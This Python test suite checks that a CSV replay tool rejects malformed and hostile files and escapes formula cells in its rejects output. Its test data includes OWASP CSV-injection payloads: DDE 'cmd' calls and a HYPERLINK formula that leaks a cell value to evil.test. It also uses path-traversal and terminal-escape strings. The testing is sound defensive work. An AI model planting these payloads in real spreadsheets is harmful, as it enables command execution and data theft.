"""Hostile CSV: files a user may hand the replay, seeded and table-driven.

Each file either stops before anything is sent, with one line naming the row and column, or
has its bad rows rejected by row and column while its good rows are created exactly once (the
sandbox's truth holds each good row's answers, formula-looking ones included, exactly as
written). The rejects CSV holds no cell a spreadsheet would run, and a person correcting it and
replaying it as it is (twice: half the rows, then the rest) gets back the original values.
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from iozen_etl.replay import CsvFileError, ReplayReport, rejects_path_for, replay_csv
from iozen_etl.replay.csvfile import REJECTS_COLUMNS, CsvReader
from iozen_etl.sandbox import RunningServer, Sandbox, SandboxConfig, serve
from iozen_etl.settings import DataPaths
from tests.support.clock import FakeTime
from tests.support.reliability import Ledger, iterations
from tests.support.worlds import ReplayWorld

CATEGORY = "hostile CSV"
ROOT = Path(__file__).resolve().parents[2]
COLUMNS = ("full_name", "email", "phone", "notes", "team_size", "consent")
# Cells a spreadsheet would run, or that look like it (OWASP's CSV-injection payloads), and
# cells that only look like the escape; good rows carry them as answers.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain",
    "-5",
    "=",
)
PHONES = ("+44 20 7946 0958", "+1-555-0100", "020 7946 0958", "-", "@home")
NAMES = ("Ann", "José Ñúñez", "李雷", "O'Brien, Pat", 'Say "hi"', "\u202eevil\u202c", "Zoë\x1b[31m")
# What the test itself counts as a cell a spreadsheet would run: the OWASP starts, except a
# plain number (the product's rule, restated here so the test does not check it against itself).
_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@dataclass
class Bad:
    """A row that must be rejected: its cells, the column its reason names, and its fix."""

    cells: dict[str, str]
    blamed: str  # a column name, or "column K" for a cell beyond the header
    fix_column: str | None  # the cell a person corrects (None: cut the cells beyond the header)
    fix_value: str = ""
    extra: tuple[str, ...] = ()  # cells beyond the header


@dataclass
class Hostile:
    """One hostile file: its bytes, what must be created, what must be rejected or said."""

    data: bytes
    header: tuple[str, ...] = COLUMNS
    good: list[dict[str, str]] = field(default_factory=list)
    bad: dict[int, Bad] = field(default_factory=dict)  # by spreadsheet row
    file_error: tuple[str, ...] = ()  # what the one-line error says, when the file cannot go
    fixed: bytes | None = None  # the file as a person re-saves it, for a file-level error


def _good_rows(rng: random.Random, n: int, tag: str) -> list[dict[str, str]]:
    return [
        {
            "full_name": rng.choice(NAMES + FORMULAS),
            "email": f"{tag}-{i}-{rng.randrange(10**9)}@example.com",
            "phone": rng.choice(PHONES + FORMULAS),
            "notes": rng.choice(FORMULAS),
            "team_size": str(rng.randint(-5, 500)),
            "consent": rng.choice(("yes", "no", "true", "1", "F")),
        }
        for i in range(n)
    ]


def _bad_cell(rng: random.Random, row: dict[str, str]) -> Bad:
    """One of the ordinary ways a row is wrong, on a row that also carries formula cells."""
    kind = rng.randrange(4)
    if kind == 0:
        return Bad({**row, "team_size": "=1+1"}, "team_size", "team_size", "7")
    if kind == 1:
        return Bad({**row, "consent": ""}, "consent", "consent", "yes")
    if kind == 2:
        email = row["email"]
        return Bad({**row, "email": "=" + email.replace("@", "(at)")}, "email", "email", email)
    return Bad({**row, "team_size": "1,234"}, "team_size", "team_size", "1234")


def _csv_text(header: tuple[str, ...], rows: list[list[str]], newline: str = "\r\n") -> str:
    out = io.StringIO()
    # Python 3.11's writer quotes a cell holding a CR only when the line end holds one; a cell
    # with a CR left bare would be two rows, to this reader as to a spreadsheet.
    if "\r" in newline:
        writer = csv.writer(out, lineterminator=newline)
    else:
        writer = csv.writer(out, lineterminator=newline, quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _mixed(
    rng: random.Random,
    tag: str,
    bad_rows: int,
    make_bad: Callable[[random.Random, dict[str, str]], Bad] = _bad_cell,
    header: tuple[str, ...] = COLUMNS,
) -> Hostile:
    """Good rows with bad ones at seeded places; the bytes are left to the caller."""
    good = _good_rows(rng, rng.randint(3, 8), tag)
    extra = _good_rows(rng, bad_rows, tag + "-bad")
    order: list[dict[str, str] | Bad] = [*good, *(make_bad(rng, row) for row in extra)]
    rng.shuffle(order)
    case = Hostile(b"", header, good=good)
    for number, item in enumerate(order, start=2):
        if isinstance(item, Bad):
            case.bad[number] = item
    return case


def _rows_of(case: Hostile) -> list[list[str]]:
    """The file's records, in row order."""
    by_row: dict[int, list[str]] = {}
    good = iter(case.good)
    for number in range(2, 2 + len(case.good) + len(case.bad)):
        bad = case.bad.get(number)
        if bad is None:
            row = next(good)
            by_row[number] = [row.get(name, "") for name in case.header]
        else:
            by_row[number] = [bad.cells.get(name, "") for name in case.header] + list(bad.extra)
    return [by_row[number] for number in sorted(by_row)]


def _records(text: str) -> list[list[str]]:
    """A CSV text's records as Python's csv module reads them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _with_rows(case: Hostile, newline: str = "\r\n", prefix: bytes = b"") -> Hostile:
    case.data = prefix + _csv_text(case.header, _rows_of(case), newline).encode("utf-8")
    return case


# -- the table: each builder makes one hostile file from a seeded generator ------------------


def bom(rng: random.Random) -> Hostile:
    return _with_rows(_mixed(rng, "bom", 2), prefix=b"\xef\xbb\xbf")


def old_mac_line_ends(rng: random.Random) -> Hostile:
    return _with_rows(_mixed(rng, "cr", 2), newline="\r")


def unix_line_ends(rng: random.Random) -> Hostile:
    return _with_rows(_mixed(rng, "lf", 2), newline="\n")


def formula_cells(rng: random.Random) -> Hostile:
    return _with_rows(_mixed(rng, "formula", rng.randint(2, 5)))


def ragged_rows(rng: random.Random) -> Hostile:
    def too_long(rng: random.Random, row: dict[str, str]) -> Bad:
        extra = ("", rng.choice(FORMULAS)) if rng.random() < 0.5 else (rng.choice(FORMULAS),)
        position = len(COLUMNS) + len(extra)
        return Bad(row, f"column {position}", None, extra=extra)

    def too_short(rng: random.Random, row: dict[str, str]) -> Bad:
        # A short row reads as empty trailing cells: here the required consent is missing.
        return Bad({k: v for k, v in row.items() if k != "consent"}, "consent", "consent", "y")

    def either(rng: random.Random, row: dict[str, str]) -> Bad:
        return too_long(rng, row) if rng.random() < 0.6 else too_short(rng, row)

    case = _mixed(rng, "ragged", rng.randint(2, 4), either)
    rows = _rows_of(case)
    # A short row's trailing cells are really missing, not empty: cut them off the record.
    for number, bad in case.bad.items():
        if "consent" not in bad.cells:
            rows[number - 2] = rows[number - 2][: COLUMNS.index("consent")]
    case.data = _csv_text(case.header, rows).encode("utf-8")
    return case


def enormous_cell(rng: random.Random) -> Hostile:
    size = rng.choice((1_100_000, 2_000_000, 5_000_000))  # past the API's limit, and the old cap

    def huge(rng: random.Random, row: dict[str, str]) -> Bad:
        return Bad({**row, "notes": rng.choice(FORMULAS) + "x" * size}, "notes", "notes", "cut")

    return _with_rows(_mixed(rng, "huge", 1, huge))


def junk_bot_ids(rng: random.Random) -> Hostile:
    def junk(rng: random.Random, row: dict[str, str]) -> Bad:
        bot = rng.choice(
            ("=cmd|' /C calc'!A0", "../webhooks", "..", "%2e%2e", "bot\x1b[2J", "x" * 900)
        )
        return Bad({**row, "_bot_id": bot}, "_bot_id", "_bot_id", "")

    return _with_rows(_mixed(rng, "bot", 2, junk, header=(*COLUMNS, "_bot_id")))


def hostile_reserved_cells(rng: random.Random) -> Hostile:
    def reserved(rng: random.Random, row: dict[str, str]) -> Bad:
        if rng.random() < 0.5:
            return Bad({**row, "_status": "=1+1"}, "_status", "_status", "completed")
        return Bad({**row, "_is_test": "@maybe"}, "_is_test", "_is_test", "no")

    return _with_rows(
        _mixed(rng, "reserved", 2, reserved, header=(*COLUMNS, "_status", "_is_test"))
    )


def duplicate_header(rng: random.Random) -> Hostile:
    first, second = sorted(rng.sample(range(len(COLUMNS) + 1), 2))
    name = COLUMNS[first]
    header = list(COLUMNS)
    header.insert(second, f" {name} ")
    case = _mixed(rng, "dup", 0)
    rows = [[*row[:second], "x", *row[second:]] for row in _rows_of(case)]
    case.data = _csv_text(tuple(header), rows).encode("utf-8")
    case.file_error = (
        f"column {name!r} appears twice",
        f"row 1, columns {first + 1} and {second + 1}",
    )
    case.good = []
    return case


def nameless_header_column(rng: random.Random) -> Hostile:
    position = rng.randrange(len(COLUMNS))
    header = (*COLUMNS[:position], "  ", *COLUMNS[position:])
    data = _csv_text(header, [["a"] * len(header)]).encode("utf-8")
    return Hostile(data, file_error=(f"header column {position + 1} has no name (row 1)",))


def enormous_header_cell(rng: random.Random) -> Hostile:
    header = (*COLUMNS, rng.choice(FORMULAS) + "h" * rng.choice((200_000, 3_000_000)))
    data = _csv_text(header, [["a"] * len(header)]).encode("utf-8")
    return Hostile(data, file_error=("matches no field", "characters)"))


def empty_file(rng: random.Random) -> Hostile:
    return Hostile(rng.choice((b"", b"\xef\xbb\xbf")), file_error=("the file is empty",))


def blank_lines_only(rng: random.Random) -> Hostile:
    data = rng.choice((b"\n", b"\r\n", b"\r")) * rng.randint(1, 5) + rng.choice((b"", b",,,\n"))
    return Hostile(data, file_error=("row 1 is blank",))


def binary_file(rng: random.Random) -> Hostile:
    data = rng.randbytes(rng.randint(2_000, 64_000))
    return Hostile(data, file_error=("row ", "column ", " 0x"))


def zero_bytes(rng: random.Random) -> Hostile:
    data = b"\x00" * rng.randint(1, 100_000)
    return Hostile(data, file_error=("row 1, column 1: byte 0x00", "binary or UTF-16"))


def utf16(rng: random.Random) -> Hostile:
    case = _with_rows(_mixed(rng, "utf16", 0))
    text = case.data.decode("utf-8")
    encoding = rng.choice(("utf-16", "utf-16-be", "utf-16-le"))
    case.fixed, case.data = case.data, text.encode(encoding)
    if encoding == "utf-16":  # with a byte-order mark
        case.file_error = ("row 1, column 1", "UTF-16 byte-order mark", "save it as CSV UTF-8")
    else:
        case.file_error = ("byte 0x00", "binary or UTF-16")
    return case


def latin1(rng: random.Random) -> Hostile:
    """A file saved as Latin-1: the error is at its first accented letter."""
    rows = _rows_of(_mixed(rng, "latin1", 0))
    number = rng.randrange(len(rows))
    column = rng.randrange(len(COLUMNS) - 2)  # a text column, where an accent is an answer
    rows[number][column] = "Zoë " + rows[number][column]
    text = _csv_text(COLUMNS, rows).encode("latin-1", errors="replace").decode("latin-1")
    first = next(
        (row_number, column_number, ord(char))
        for row_number, row in enumerate(_records(text)[1:], start=2)
        for column_number, cell in enumerate(row, start=1)
        for char in cell
        if ord(char) > 0x7F
    )
    where = f"row {first[0]}, column {first[1]} ({COLUMNS[first[1] - 1]!r}): byte 0x{first[2]:02x}"
    good = [dict(zip(COLUMNS, row, strict=True)) for row in _records(text)[1:]]
    return Hostile(
        text.encode("latin-1"),
        good=good,
        file_error=(where, "is not UTF-8"),
        fixed=text.encode("utf-8"),
    )


def unclosed_quote(rng: random.Random) -> Hostile:
    """A cell opens a quote that nothing after it closes (no cell after it is quoted)."""
    rows = [
        [re.sub(r'[",\r\n]', "", cell) for cell in row] for row in _rows_of(_mixed(rng, "q", 0))
    ]
    number = rng.randrange(len(rows))
    column = rng.randrange(len(COLUMNS))
    rows[number][column] = '"' + rows[number][column]
    newline = rng.choice(("\n", "\r\n", "\r"))
    text = newline.join(",".join(row) for row in [list(COLUMNS), *rows]) + newline
    where = f"row {number + 2}, column {column + 1} ({COLUMNS[column]!r})"
    return Hostile(text.encode("utf-8"), file_error=(where, "never closed"))


CASES: dict[str, Callable[[random.Random], Hostile]] = {
    "UTF-8 with a BOM": bom,
    "old Mac line ends (CR alone)": old_mac_line_ends,
    "Unix line ends": unix_line_ends,
    "formula-looking cells": formula_cells,
    "ragged rows": ragged_rows,
    "enormous cell": enormous_cell,
    "junk _bot_id": junk_bot_ids,
    "hostile reserved cells": hostile_reserved_cells,
    "duplicate header": duplicate_header,
    "header column with no name": nameless_header_column,
    "enormous header cell": enormous_header_cell,
    "empty file": empty_file,
    "blank lines only": blank_lines_only,
    "binary file": binary_file,
    "NUL bytes only": zero_bytes,
    "UTF-16": utf16,
    "Latin-1 bytes": latin1,
    "unclosed quote": unclosed_quote,
}


# -- running a case ----------------------------------------------------------------------------


def _world(tmp: Path, seed: int) -> ReplayWorld:
    tmp.mkdir(parents=True)
    sandbox = Sandbox(SandboxConfig(seed=seed, bots=2, submissions_per_bot=1))
    bots = {bot["name"]: bot["id"] for bot in sandbox.truth_bots()}
    bot_id = bots["Customer Onboarding"]
    return ReplayWorld(sandbox, FakeTime(), DataPaths(tmp / "data"), tmp, bot_id)


def _replay(world: ReplayWorld, path: Path) -> ReplayReport:
    with world.client() as client:
        return replay_csv(client, world.paths, path, bot_id=world.bot_id, concurrency=4)


def _expected(row: dict[str, str]) -> dict[str, object]:
    """The answers the API must hold for a good row, from its cells."""
    consent = row["consent"].lower() in ("yes", "true", "1", "y", "t")
    texts = {name: row[name] for name in COLUMNS[:4]}
    return {**texts, "team_size": int(row["team_size"]), "consent": consent}


def _check_created(ledger: Ledger, world: ReplayWorld, rows: list[dict[str, str]]) -> None:
    """Each row is one submission holding exactly its answers; nothing else was created."""
    by_email: dict[str, list[dict[str, object]]] = {}
    for sub in world.created():
        by_email.setdefault(str(sub["data"].get("email")), []).append(sub["data"])
    lost = sum(1 for row in rows if row["email"] not in by_email)
    twice = sum(len(made) - 1 for made in by_email.values())
    ledger.count(CATEGORY, "good rows lost", lost)
    ledger.count(CATEGORY, "rows created twice", twice)
    assert (lost, twice) == (0, 0)
    for row in rows:
        made = by_email[row["email"]][0]
        assert {k: made.get(k) for k in COLUMNS} == _expected(row), row["email"]
    assert sorted(by_email) == sorted(row["email"] for row in rows)


def _names_row_and_column(message: str) -> bool:
    return re.search(r"row \d+", message) is not None and re.search(r"column", message) is not None


def _check_file_error(ledger: Ledger, world: ReplayWorld, case: Hostile, path: Path) -> None:
    with pytest.raises(CsvFileError) as raised:
        _replay(world, path)
    message = str(raised.value)
    ledger.said([message])
    assert "\n" not in message and len(message) < 1000, message[:1000]
    assert message.startswith(path.name + ": ")
    for fragment in case.file_error:
        assert fragment in message, message
    assert world.posts() == 0
    ledger.count(CATEGORY, "file errors on one line, nothing sent", 1)
    if _names_row_and_column(message):
        ledger.count(CATEGORY, "clear errors naming row and column", 1)
    if case.fixed is not None:
        path.write_bytes(case.fixed)
        report = _replay(world, path)
        assert report.complete, report.problems
        _check_created(ledger, world, case.good)
        ledger.count(CATEGORY, "good rows replayed", len(case.good))


def _check_rejects_escaped(ledger: Ledger, rejects: Path) -> list[list[str]]:
    """The rejects CSV as a spreadsheet reads it: no cell it would run, no column twice."""
    with rejects.open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    header = records[0]
    assert tuple(header[:2]) == REJECTS_COLUMNS
    assert len(set(header)) == len(header), header
    unescaped = [
        cell
        for record in records
        for cell in record
        if cell.startswith(_STARTS) and not _NUMBER.fullmatch(cell)
    ]
    ledger.count(CATEGORY, "unescaped formulas in rejects", len(unescaped))
    assert unescaped == []
    ledger.count(CATEGORY, "cells in rejects checked", sum(len(record) for record in records))
    return records


def _check_rejected(report: ReplayReport, bad: dict[int, Bad], ledger: Ledger) -> None:
    problems = {problem.row: problem for problem in report.problems}
    ledger.said(str(problem) for problem in report.problems)
    assert set(problems) == set(bad), (sorted(problems), sorted(bad))
    for number, row in bad.items():
        problem = problems[number]
        assert problem.field == row.blamed or row.blamed in problem.reason, (number, problem)
        ledger.count(CATEGORY, "clear errors naming row and column", 1)


def _correct(
    records: list[list[str]], origin: dict[int, int], bad: dict[int, Bad], which: set[int]
) -> dict[int, int]:
    """A person's corrections to the rows of ``which`` (by original row) in a rejects file's
    records, in place; returns where each of its rows came from in the original file."""
    header = records[0]
    width = len(header)
    came_from: dict[int, int] = {}
    for index, record in enumerate(records[1:], start=2):
        original = origin[int(record[0])]
        came_from[index] = original
        if original not in which:
            continue
        row = bad[original]
        del record[width:]
        record.extend([""] * (width - len(record)))
        if row.fix_column is not None:
            record[header.index(row.fix_column)] = row.fix_value
    return came_from


def _fixed_row(row: Bad) -> dict[str, str]:
    cells = dict(row.cells)
    if row.fix_column is not None:
        cells[row.fix_column] = row.fix_value
    return cells


def _round_trip(
    ledger: Ledger, world: ReplayWorld, case: Hostile, path: Path, rng: random.Random
) -> None:
    """Correct half the rejected rows and replay the rejects file as it is; then the rest from
    the rejects file that replay wrote. Every corrected row comes back with its own values."""
    rejects = rejects_path_for(path)
    records = _check_rejects_escaped(ledger, rejects)
    # Read back as the replay reads it, each rejected row is the row of the input.
    with CsvReader(rejects) as reader:
        back = {int(row.cells[0]): row.cells[2:] for row in reader}
    records_in = _records(case.data.decode("utf-8-sig"))
    assert back == {number: tuple(records_in[number - 1]) for number in case.bad}
    ledger.count(CATEGORY, "rejected rows read back exactly", len(back))

    origin = {number: number for number in case.bad}
    first = set(rng.sample(sorted(case.bad), len(case.bad) // 2))
    for which in (first, set(case.bad)):
        origin = _correct(records, origin, case.bad, which)
        with rejects.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(records)
        report = _replay(world, rejects)
        ledger.said(str(problem) for problem in report.problems)
        assert {origin[p.row] for p in report.problems} == set(case.bad) - which
        if which != set(case.bad):
            rejects = rejects_path_for(rejects)
            records = _check_rejects_escaped(ledger, rejects)
    assert not rejects_path_for(rejects).exists()
    fixed = [_fixed_row(row) for row in case.bad.values()]
    _check_created(ledger, world, case.good + fixed)
    ledger.count(CATEGORY, "corrected rows replayed from rejects", len(fixed))


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_file_stops_cleanly_or_replays_its_good_rows_once(
    name: str, tmp_path: Path, ledger: Ledger, long_run: bool
) -> None:
    for seed in range(iterations(3, 30, long_run=long_run)):
        rng = random.Random(f"{name}/{seed}")
        case = CASES[name](rng)
        world = _world(tmp_path / f"seed-{seed}", seed)
        ledger.watch(world.sandbox.api_key, world.tmp)
        path = world.tmp / "in.csv"
        path.write_bytes(case.data)
        ledger.count(CATEGORY, "hostile files", 1)
        if case.file_error:
            _check_file_error(ledger, world, case, path)
            continue
        report = _replay(world, path)
        _check_rejected(report, case.bad, ledger)
        assert report.created == len(case.good)
        _check_created(ledger, world, case.good)
        ledger.count(CATEGORY, "good rows replayed", len(case.good))
        if case.bad:
            _round_trip(ledger, world, case, path, rng)


# -- the command: one line on stderr, exit 2, never a traceback --------------------------------


@pytest.fixture
def served() -> Iterator[RunningServer]:
    server = serve(Sandbox(SandboxConfig(seed=5, bots=2, submissions_per_bot=1)))
    yield server
    server.close()


@pytest.mark.slow
def test_the_command_says_one_line_for_an_empty_binary_or_utf16_file(
    served: RunningServer, tmp_path: Path, ledger: Ledger
) -> None:
    bot = next(b["id"] for b in served.sandbox.truth_bots() if b["name"] == "Customer Onboarding")
    rng = random.Random(0)
    files = {
        "empty.csv": b"",
        "binary.csv": rng.randbytes(4096),
        "utf16.csv": "full_name,email\r\nJosé,j@x.test\r\n".encode("utf-16"),
    }
    env = {
        **os.environ,
        "IOZEN_API_KEY": served.sandbox.api_key,
        "IOZEN_BASE_URL": served.base_url,
        "IOZEN_DATA_DIR": str(tmp_path / "data"),
    }
    ledger.watch(served.sandbox.api_key, tmp_path)
    for name, data in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        proc = subprocess.run(
            [sys.executable, "-m", "iozen_etl", "replay", str(path), "--bot", bot],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        ledger.said([proc.stdout, proc.stderr])
        assert proc.returncode == 2, proc.stderr
        assert proc.stdout == ""
        lines = proc.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith(f"iozen-etl replay: {name}: "), lines
        assert "Traceback" not in proc.stderr
        ledger.count(CATEGORY, "command errors on one line", 1)
    assert served.sandbox.request_count("create_submission", "POST") == 0
